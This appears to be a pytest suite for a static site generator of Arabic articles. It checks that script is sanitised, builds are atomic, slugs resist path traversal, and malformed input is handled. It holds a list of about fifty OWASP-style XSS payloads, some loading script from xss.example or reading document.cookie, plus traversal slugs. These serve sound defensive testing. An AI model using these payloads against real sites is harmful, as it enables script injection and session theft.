"""Hostile content and faults: nothing executes, nothing escapes, nothing is lost."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import tempfile
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import snapshot, write_site
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from archive_site import render
from archive_site.loader import load_site
from archive_site.model import ContentError

# Vectors in the manner of the OWASP XSS filter evasion cheat sheet, each one
# placed in a Markdown body.
XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083"
    "&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;"
    "&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27"
    "&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<iframe src=http://xss.example/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD>x</TD></TR></TABLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\" "
    "type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "[a markdown link](javascript:alert(1))",
    "![a markdown image](javascript:alert(1))",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<a href=\"  JAVASCRIPT:alert(1)\">x</a>",
]
FORBIDDEN_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button",
                  "base", "meta", "style", "svg", "math", "isindex", "xss"}
URL_ATTRIBUTES = {"href", "src", "action", "background", "dynsrc", "data", "formaction", "poster", "cite"}


class PageAudit(HTMLParser):
    """Collects what in a page could run script."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []
        self.in_body = False

    def handle_starttag(self, tag, attrs):
        if tag == "main":
            self.in_body = True
        if not self.in_body:
            return
        if tag == "script" and attrs == [("src", "../static/search.js"), ("defer", None)]:
            return  # the theme's own search script, on the search page
        if tag == "svg" and dict(attrs).get("class") in ("timeline-chart", "map-chart"):
            return  # the theme's own drawings (their text is escaped like any other)
        if tag in FORBIDDEN_TAGS:
            self.findings.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name == "style":
                self.findings.append(f"{tag} {name}=")
            compact = re.sub(r"[\x00-\x20]", "", value).lower()
            if name in URL_ATTRIBUTES and compact.startswith(("javascript:", "vbscript:", "data:")):
                self.findings.append(f"{tag} {name}={value}")


def audit(html: str) -> list[str]:
    parser = PageAudit()
    parser.feed(html)
    head = html.split("<main", 1)[0]
    findings = parser.findings
    # The one script allowed in the head is the article's JSON-LD, which must
    # parse as JSON and cannot close its element early (no "<" at all).
    for data in re.findall(r'<script type="application/ld\+json">(.*?)</script>', head, flags=re.S):
        if "<" in data:
            findings.append("'<' inside JSON-LD")
        json.loads(data)
    head = re.sub(r'<script type="application/ld\+json">.*?</script>', "", head, flags=re.S)
    if "<script" in head.lower():
        findings.append("<script> in head")
    return findings


def test_no_xss_vector_survives_into_a_rendered_page(cli, tmp_path):
    files = {f"content/v{i:02}.md": f"---\ntitle: متجه {i}\ndate: 2020-01-01\nslug: v{i:02}\n---\n\nقبل\n\n"
                                    f"{vector}\n\nبعد\n" for i, vector in enumerate(XSS_VECTORS)}
    run = cli("build", write_site(tmp_path, files), "-v")
    assert run.status == 0, run.err
    assert len(XSS_VECTORS) >= 30
    for i, vector in enumerate(XSS_VECTORS):
        html = (tmp_path / f"build/articles/v{i:02}/index.html").read_text(encoding="utf-8")
        assert audit(html) == [], vector
        body = html.split('<div class="article-body">')[1].split('<footer class="article-terms">')[0]
        assert "قبل" in body, vector
        # The text after the vector is published, unless an unclosed <script> swallowed it: then the editor is told.
        assert "بعد" in body or f"content/v{i:02}.md: warning: text inside HTML that is not allowed" in run.err, vector


def test_fields_are_escaped_not_interpreted(cli, tmp_path):
    write_site(tmp_path, {"content/a.md": """
        ---
        title: "<script>alert(1)</script> عنوان"
        author: "<img src=x onerror=alert(1)>"
        tags: ["<b onclick=x>وسم</b>"]
        summary: "\\"><script>alert(2)</script>"
        ---
        نص
        """})
    assert cli("build", tmp_path).status == 0
    pages = [p.read_text(encoding="utf-8") for p in (tmp_path / "build").rglob("index.html")]
    for html in pages:
        assert audit(html) == []
        assert "<script>alert" not in html
    article = (tmp_path / "build/articles/script-alert-1-script-عنوان/index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt; عنوان" in article


def test_safe_formatting_survives(cli, tmp_path):
    write_site(tmp_path, {"content/a.md": """
        ---
        title: تنسيق
        slug: formatting
        ---
        نص *مائل* و**عريض** و<bdi dir="ltr">Latin name</bdi>.

        - أول
        - ثانٍ

        | عمود | قيمة |
        | --- | --- |
        | أ | 1 |

        [رابط خارجي](https://example.org/) ![صورة](/static/photo.jpg)
        """})
    assert cli("build", tmp_path).status == 0
    html = (tmp_path / "build/articles/formatting/index.html").read_text(encoding="utf-8")
    for fragment in ["<em>مائل</em>", "<strong>عريض</strong>", '<bdi dir="ltr">Latin name</bdi>', "<li>أول</li>",
                     "<td>أ</td>", '<a href="https://example.org/" rel="noopener noreferrer">رابط خارجي</a>',
                     '<img alt="صورة" src="/static/photo.jpg">']:
        assert fragment in html


# --- output stays whole --------------------------------------------------------

def test_failure_mid_build_leaves_the_previous_output(cli, tmp_path, monkeypatch):
    site = write_site(tmp_path / "site", {f"content/{i}.md": f"---\ntitle: مقال {i}\n---\nنص\n" for i in range(30)})
    assert cli("build", site).status == 0
    before = snapshot(site / "build", search=True)
    write_site(site, {"content/new.md": "---\ntitle: جديد\n---\nنص\n"})
    calls = {"n": 0}
    real_render = render.Renderer.render

    def failing_render(self, *args, **kwargs):
        calls["n"] += 1
        if calls["n"] == 20:
            raise OSError(28, "No space left on device")
        return real_render(self, *args, **kwargs)

    monkeypatch.setattr(render.Renderer, "render", failing_render)
    run = cli("build", site, "--clean")  # every page rendered again: the failure comes after 19 were written
    assert run.status == 1
    assert "No space left on device" in run.err
    assert snapshot(site / "build", search=True) == before
    assert [p.name for p in site.iterdir() if p.name.startswith(".build")] == []


@pytest.mark.slow
def test_kill_9_mid_build_leaves_the_previous_output(tmp_path):
    site = write_site(tmp_path / "site", {
        f"content/{i:04}.md": f"---\ntitle: مقال رقم {i}\ndate: 2020-01-01\n---\n" + "كلمة " * 300 + "\n"
        for i in range(1500)})
    subprocess.run([sys.executable, "-m", "archive_site", "build", str(site), "-q"], check=True)
    before = snapshot(site / "build", search=True)
    (site / "content/0000.md").write_text("---\ntitle: معدل\n---\nنص جديد\n", encoding="utf-8")
    # --clean: every page is rendered again into the staging folder, which is then swapped in.
    build = subprocess.Popen([sys.executable, "-m", "archive_site", "build", str(site), "-q", "--clean"])
    deadline = time.monotonic() + 60
    staging = None
    while time.monotonic() < deadline and staging is None:
        found = [p for p in site.glob(".build.staging-*") if (p / "articles").is_dir()]
        staging = found[0] if found and len(list((found[0] / "articles").iterdir())) > 50 else None
        time.sleep(0.01)
    assert staging is not None, "the build finished before it could be interrupted"
    os.kill(build.pid, signal.SIGKILL)
    build.wait()
    assert snapshot(site / "build", search=True) == before
    # The next build cleans up what the killed one left and publishes.
    subprocess.run([sys.executable, "-m", "archive_site", "build", str(site), "-q"], check=True)
    # The previous output is deleted in the background once the new one is in place.
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and any(p.name.startswith(".build") for p in site.iterdir()):
        time.sleep(0.05)
    assert [p.name for p in site.iterdir() if p.name.startswith(".build")] == []
    # The article keeps the address its first build gave it (the ledger's).
    assert "نص جديد" in (site / "build/articles/مقال-رقم-0/index.html").read_text(encoding="utf-8")


@pytest.mark.parametrize("slug", ["../../escaped", "/etc/passwd", "..%2F..%2Fescaped", "a/../../b", "~/x", "C:\\x"])
def test_slug_from_front_matter_stays_inside_the_output(cli, tmp_path, slug):
    site = write_site(tmp_path / "site", {"content/a.md": f"---\ntitle: أ\nslug: '{slug}'\n---\nنص\n"})
    before = {p for p in tmp_path.rglob("*")}
    assert cli("build", site).status == 0
    new = {p for p in tmp_path.rglob("*") if ".archive-site-cache" not in p.parts} - before - {site / "ledger.tsv"}
    out = (site / "build").resolve()
    assert new and all(p.resolve() == out or out in p.resolve().parents for p in new)
    assert len(list((out / "articles").iterdir())) == 1


# --- any bytes at all ------------------------------------------------------------

ARTICLE_PARTS = st.sampled_from(["---\n", "title: ", "date: ", "tags: [", "]", "\n", "\r\n", "-----\n", "عنوان",
                                 "٢٠١٩-٠٨-٠٣", ":", "'", '"', "{", "- ", "\ufeff", "\x00", ">", "<script>", "&"])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.one_of(st.binary(max_size=400),
                      st.lists(ARTICLE_PARTS, max_size=40).map(lambda parts: "".join(parts).encode("utf-8")),
                      st.text(max_size=300).map(lambda t: t.encode("utf-16"))),
       suffix=st.sampled_from([".md", ".txt"]))
def test_any_bytes_give_an_article_or_a_clean_error(data, suffix):
    with tempfile.TemporaryDirectory() as folder:
        site = Path(folder)
        write_site(site, {f"content/x{suffix}": data})
        result = load_site(site)  # must not raise
        assert len(result.articles) + len(result.failed) == 1
        for problem in result.problems:
            assert isinstance(problem, ContentError) and problem.path == f"content/x{suffix}"


# --- stress: many files, some broken ---------------------------------------------

BROKEN = [
    "---\ntitle: [\n---\n",
    "---\ndate: 2020-01-01\n---\nنص\n",
    "---\ntitle: x\ndate: 2020-13-01\n---\nنص\n",
    "",
    "بلا رأس\n",
    "---\ntitle: x\ntags: {a: b}\n---\n",
    b"\x00\x01\x02\x03binary",
    "---\ntitle: x\nsource: ftp://x\n---\nنص\n",
    "---\ntitle: x\ndraft: maybe\n---\nنص\n",
    "---\ntitle: ''\n---\nنص\n",
]


@pytest.mark.slow
def test_stress_5_percent_broken_of_2000(cli, tmp_path):
    files: dict[str, str | bytes] = {}
    bad = set()
    for i in range(2000):
        name = f"content/{i % 17}/{i:04}.md"
        if i % 20 == 7:
            files[name] = BROKEN[(i // 20) % len(BROKEN)]
            bad.add(name)
        else:
            files[name] = f"---\ntitle: مقال {i}\ndate: 2019-{i % 12 + 1:02}-01\ntags: [وسم {i % 9}]\n---\nنص {i}\n"
    site = write_site(tmp_path / "site", files)
    assert len(bad) == 100

    run = cli("build", site)
    assert run.status == 1
    assert not (site / "build").exists()
    assert {line.removeprefix("error: ").split(":")[0] for line in run.err.splitlines()
            if line.startswith("error: ")} == bad

    run = cli("build", site, "--keep-going")
    assert run.status == 1
    assert "2000 article files: 1900 published, 100 with errors, left out" in run.out
    assert len(list((site / "build/articles").iterdir())) == 1900
